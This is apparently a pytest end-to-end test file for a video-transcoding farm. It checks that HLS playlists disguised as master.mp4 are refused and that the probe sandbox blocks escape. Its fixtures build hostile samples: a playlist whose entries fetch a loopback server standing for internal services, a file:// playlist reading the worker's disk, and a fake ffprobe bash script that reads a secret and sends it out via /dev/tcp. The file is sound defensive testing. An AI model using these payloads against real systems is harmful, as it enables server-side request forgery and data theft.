"""Masters that are really playlists, observed on a live farm: an HLS playlist named master.mp4 had
the worker's ffmpeg fetch every URL it named (EXT-X-MAP, segments, keys) and deliver the answers in
the video, and a `file:///…` entry was read from the worker's disk. Each is refused by its
container's name, at submit and, when the submit's check is skipped (anyone holding the farm's
credentials can), by the worker; nothing the playlist names is ever requested or read."""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from fractions import Fraction
from pathlib import Path

import pytest

from farm.adapters import proc
from farm.adapters.sandbox import wrap
from farm.adapters.settings import Settings, load_settings
from farm.core.errors import Refused
from farm.media.ffgraph import EncodeSettings
from farm.media.master import check_container
from farm.media.transcode_graph import SegmentCut, segment_argv
from farm.media.transcode_spec import transcode_spec_from_file
from tests.conftest import ROOT, LocalFarm, farm_env
from tests.e2e.farmtools import wait_final
from workers.host.box import media_box

pytestmark = pytest.mark.e2e
FFMPEG = ["ffmpeg", "-hide_banner", "-nostdin", "-loglevel", "error", "-y"]
SECRET = b"flower_metrics_secret 1\n"
"""What the server the playlist names answers (Flower's /metrics, in the attack)."""
REFUSED = "its container is 'hls'"
UNBOXED = "is probed without a box"
"""The submit's warning when its probe runs unboxed (farm.media.probe.submit_box)."""


class Recorder:
    """A local HTTP server on a free loopback port, standing for anything inside the farm's
    network: every request it gets is recorded, and answered with SECRET."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(SECRET)))
                self.end_headers()
                self.wfile.write(SECRET)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    served = Recorder()
    try:
        yield served
    finally:
        served.server.shutdown()


def network_playlist(path: Path, base: str) -> Path:
    """An HLS media playlist named like a master, each of its entries a URL of `base`."""
    path.write_text(
        "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n#EXT-X-PLAYLIST-TYPE:VOD\n"
        f'#EXT-X-MAP:URI="{base}/init.mp4"\n'
        f'#EXT-X-KEY:METHOD=AES-128,URI="{base}/key",IV=0x00000000000000000000000000000001\n'
        f"#EXTINF:1.0,\n{base}/metrics/seg0.ts\n#EXTINF:1.0,\n{base}/metrics/seg1.ts\n"
        "#EXT-X-ENDLIST\n"
    )
    return path


def local_file_playlist(path: Path, entry: Path) -> Path:
    """An HLS playlist whose one segment is a file on the worker's disk."""
    path.write_text(
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n"
        f"#EXTINF:2.0,\nfile://{entry}\n#EXT-X-ENDLIST\n"
    )
    return path


def make_video(path: Path, seconds: float, *fmt: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [*FFMPEG, "-f", "lavfi", "-i", f"testsrc2=s=64x48:r=24:d={seconds}", "-c:v", "libx264",
         "-pix_fmt", "yuv420p", *fmt, str(path)],
        check=True,
    )  # fmt: skip
    return path


def submit_skipping_the_check(farm: LocalFarm, hostile: Path, tmp_path: Path) -> str:
    """What anyone holding the farm's credentials can do: write the job with a spec of their own
    (here a good master's), the submit's probe never run on the file that is uploaded."""
    from farm.control.intake import submit

    good = make_video(tmp_path / "good" / hostile.name, 1)  # the same name, as submit records it
    spec = transcode_spec_from_file(
        good, ffprobe="ffprobe", ffmpeg="ffmpeg", frames=None, resolution="64x48", codec="h264",
        quality=None, encoder="software", preset="ultrafast", segment_frames=None,
    )  # fmt: skip
    settings = load_settings(env={}, config_path=farm.config)
    return submit(settings, spec, hostile).job_id


def submit_here(master: Path, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """`farm submit MASTER` on a machine with no farm configured: the probe of a master runs
    before the farm is asked anything, so a refused master exits 2 and one that passes exits 1
    (no farm). `env`: FARM_* settings, PATH."""
    return subprocess.run(
        [sys.executable, "-m", "farm", "submit", str(master), "--resolution", "64x48"],
        env=farm_env(tmp_path / "no-farm.json", **env), capture_output=True, text=True,
        timeout=300, cwd=ROOT,
    )  # fmt: skip


def spy_ffprobe(tmp_path: Path, recorder: Recorder) -> Path:
    """An ffprobe that does what a master crafted against a demuxer's bug could make the real
    one do: read a file outside the master's folder, send it to a server, leave a file beside
    the master. It says what it managed (its last line is in submit's error) and fails."""
    secret = tmp_path / "elsewhere" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("s3cr3t")
    spy = tmp_path / "bin" / "ffprobe"
    spy.parent.mkdir()
    port = recorder.server.server_address[1]
    spy.write_text(
        "#!/bin/bash\n"
        f"read=$(cat {secret} 2>/dev/null || echo nothing)\n"
        "sent=no\n"
        "if { printf 'GET /leak/%s HTTP/1.0\\r\\n\\r\\n' \"$read\" >&3 && cat <&3 >/dev/null; } "
        f"3<>/dev/tcp/127.0.0.1/{port} 2>/dev/null; then sent=yes; fi\n"
        "for arg; do master=${arg#file:}; done\n"  # the last argument: the master, as file:PATH
        'echo planted > "$(dirname "$master")/planted.txt" 2>/dev/null\n'
        'echo "spy: read $read, sent $sent, home $HOME" >&2\n'
        "exit 1\n"
    )
    spy.chmod(0o755)
    return spy


def test_the_submits_probe_runs_boxed_reading_sending_and_leaving_nothing(
    recorder: Recorder, tmp_path: Path
) -> None:
    """GIVEN an ffprobe that tries what a crafted master could make it do (read a file outside
    the master's folder, send it to a local server, write beside the master), WHEN a master is
    submitted, THEN in the submit's box it reads nothing, the server gets no request, nothing is
    written and its home (the box's one writable folder) is gone after: submit exits 2 with the
    spy's own words."""
    spy = spy_ffprobe(tmp_path, recorder)
    master = make_video(tmp_path / "shots" / "master.mp4", 1)
    done = submit_here(master, tmp_path, FARM_FFPROBE=str(spy))
    assert done.returncode == 2, done.stderr
    assert "spy: read nothing, sent no, home " in done.stderr, done.stderr
    home = Path(done.stderr.split(", home ", 1)[1].split(")", 1)[0])
    assert home.name.startswith("farm-probe-") and not home.exists()
    assert recorder.requests == []
    assert not (master.parent / "planted.txt").exists()
    assert UNBOXED not in done.stderr


def test_with_the_box_off_the_submits_probe_says_so_once_and_the_spy_gets_out(
    recorder: Recorder, tmp_path: Path
) -> None:
    """GIVEN the same spy, WHEN FARM_SANDBOX=off, THEN submit warns once that the probe is
    unboxed and why, and the spy reads the file, reaches the server and writes beside the
    master (what the box stopped above: the spy is no dud)."""
    spy = spy_ffprobe(tmp_path, recorder)
    master = make_video(tmp_path / "shots" / "master.mp4", 1)
    done = submit_here(master, tmp_path, FARM_FFPROBE=str(spy), FARM_SANDBOX="off")
    assert done.returncode == 2, done.stderr
    assert "spy: read s3cr3t, sent yes" in done.stderr, done.stderr
    assert recorder.requests == ["/leak/s3cr3t"]
    assert (master.parent / "planted.txt").exists()
    assert done.stderr.count(f"master.mp4 {UNBOXED} (FARM_SANDBOX=off)") == 1


def test_without_bwrap_the_submit_still_refuses_a_playlist_and_says_it_is_unboxed(
    recorder: Recorder, tmp_path: Path
) -> None:
    """GIVEN a submitting machine without bwrap (a PATH with ffprobe and ffmpeg only), WHEN an
    HLS playlist named master.mp4 is submitted, THEN the whitelists refuse it by its container,
    the server gets no request, and submit says once that the probe ran unboxed and why."""
    tools = tmp_path / "tools"
    tools.mkdir()
    for program in ("ffprobe", "ffmpeg"):
        found = next(Path(d) / program for d in os.environ["PATH"].split(os.pathsep)
                     if (Path(d) / program).is_file())  # fmt: skip
        (tools / program).symlink_to(found)
    master = network_playlist(tmp_path / "master.mp4", recorder.base)
    done = submit_here(master, tmp_path, PATH=str(tools))
    assert done.returncode == 2, done.stderr
    assert f"master.mp4: {REFUSED}" in done.stderr
    assert done.stderr.count(f"master.mp4 {UNBOXED} (bwrap is not installed") == 1
    assert recorder.requests == []


def test_a_good_master_still_submits_with_its_probe_boxed(
    local_farm: LocalFarm, tmp_path: Path
) -> None:
    """GIVEN a plain MP4 master, WHEN it is submitted, THEN its boxed probe passes it, the job
    is queued without an unboxed warning, and it is encoded."""
    master = make_video(tmp_path / "master.mp4", 1)
    result = local_farm.farm("submit", str(master), "--resolution", "64x48", "--encoder",
                             "software", "--preset", "ultrafast")  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert UNBOXED not in result.stderr
    job_id = result.stdout.strip()
    final = wait_final(local_farm, job_id, 300)
    assert final["state"] == "done", final


def output_keys(farm: LocalFarm, job_id: str) -> list[str]:
    return [k for k in farm.store().keys(f"jobs/{job_id}/") if "output" in k]


def test_a_playlist_named_master_mp4_is_refused_at_submit_by_name_and_fetches_nothing(
    local_farm: LocalFarm, recorder: Recorder, tmp_path: Path
) -> None:
    """GIVEN an HLS playlist named master.mp4 whose map, key and segments are URLs of a local
    server, WHEN it is submitted, THEN submit exits 2 naming the container and the ones taken,
    the server gets no request and nothing is queued."""
    master = network_playlist(tmp_path / "master.mp4", recorder.base)
    before = local_farm.ledger().job_ids(1000)
    result = local_farm.farm("submit", str(master), "--resolution", "64x48")
    assert result.returncode == 2, result.stderr
    assert f"master.mp4: {REFUSED}" in result.stderr
    assert "mov,mp4,m4a,3gp,3g2,mj2; matroska,webm; mxf" in result.stderr
    assert "Traceback" not in result.stderr
    assert UNBOXED not in result.stderr  # the probe ran in its box
    assert recorder.requests == []
    assert local_farm.ledger().job_ids(1000) == before


def test_a_playlist_that_skipped_the_submit_check_fails_on_the_worker_and_fetches_nothing(
    local_farm: LocalFarm, recorder: Recorder, tmp_path: Path
) -> None:
    """GIVEN the same playlist written into the farm as a job, the submit's check skipped, WHEN
    a worker takes it, THEN the job fails naming the container, no output is delivered and the
    server never gets a request (the attack delivered its answers inside the video)."""
    master = network_playlist(tmp_path / "master.mp4", recorder.base)
    job_id = submit_skipping_the_check(local_farm, master, tmp_path)
    final = wait_final(local_farm, job_id, 300)
    assert final["state"] == "failed", final
    assert f"master.mp4: {REFUSED}" in final["error"]
    assert recorder.requests == []
    assert output_keys(local_farm, job_id) == []
    # Refused by rule: one try, not the failure budget's three.
    assert local_farm.ledger().chunk(job_id, 0).get("failures") == "1"


def test_a_playlist_entry_naming_a_file_on_the_worker_is_never_read(
    local_farm: LocalFarm, tmp_path: Path
) -> None:
    """GIVEN a playlist whose segment is `file:///…/seg.ts`, a video on the worker's own disk,
    submitted with the check skipped, WHEN a worker takes it, THEN the job fails naming the
    container and delivers nothing (the attack's fallback transcoded that file)."""
    seg = make_video(tmp_path / "worker-disk" / "seg.ts", 2, "-f", "mpegts")
    master = local_file_playlist(tmp_path / "master.mp4", seg)
    job_id = submit_skipping_the_check(local_farm, master, tmp_path)
    final = wait_final(local_farm, job_id, 300)
    assert final["state"] == "failed", final
    assert f"master.mp4: {REFUSED}" in final["error"]
    assert output_keys(local_farm, job_id) == []


def test_the_workers_own_check_refuses_a_playlist_inside_the_box(
    recorder: Recorder, tmp_path: Path
) -> None:
    """The worker's check (workers.phases.transcode.local_master), run as the worker runs it:
    boxed, on the local copy, with the whitelists."""
    (tmp_path / "cache").mkdir()
    master = network_playlist(tmp_path / "cache" / "ab12.mp4", recorder.base)
    box = media_box(Settings(), readable=(master,))
    with pytest.raises(Refused, match=f"master.mp4: {REFUSED}"):
        check_container("ffprobe", master, "master.mp4", box)
    assert recorder.requests == []


@pytest.mark.parametrize("sandbox", ["bwrap", "off"])
def test_the_segment_ffmpeg_itself_refuses_a_playlist_boxed_or_not(
    recorder: Recorder, tmp_path: Path, sandbox: str
) -> None:
    """Past every check, the transcode's own ffmpeg: with the box or without it
    (FARM_SANDBOX=off), its whitelists refuse the playlist before a byte is fetched."""
    master = network_playlist(tmp_path / "m.mp4", recorder.base)
    work = tmp_path / "work"
    work.mkdir()
    argv = segment_argv(
        ffmpeg_bin="ffmpeg", source=master, out=str(work / "s.mp4"),
        cut=SegmentCut(first=0, end=24, total=48, rate=Fraction(24), start_pts=0), width=64,
        height=48, settings=EncodeSettings(codec="h264", encoder="libx264", fps=Fraction(24)),
    )  # fmt: skip
    box = media_box(Settings(sandbox=sandbox), writable=(work,), readable=(master,))  # type: ignore[arg-type]
    assert (box is None) == (sandbox == "off")
    done = proc.capture(wrap(argv, box) if box else argv, 120)
    assert done.returncode != 0
    assert "[hls @" in done.stderr and "Format not on whitelist" in done.stderr
    assert recorder.requests == []
    assert not (work / "s.mp4").exists()
